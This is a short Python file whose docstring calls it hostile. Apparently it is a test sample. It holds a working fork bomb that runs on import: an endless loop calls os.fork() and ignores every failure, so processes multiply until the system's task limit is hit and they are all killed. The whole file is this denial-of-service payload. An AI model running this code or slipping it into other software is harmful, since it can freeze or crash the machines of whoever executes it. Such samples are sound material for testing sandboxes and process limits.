"""Hostile: a fork bomb at import. Every process forks for ever and shrugs off each failure,
so only a limit on the number of tasks and a kill of all of them stop it."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
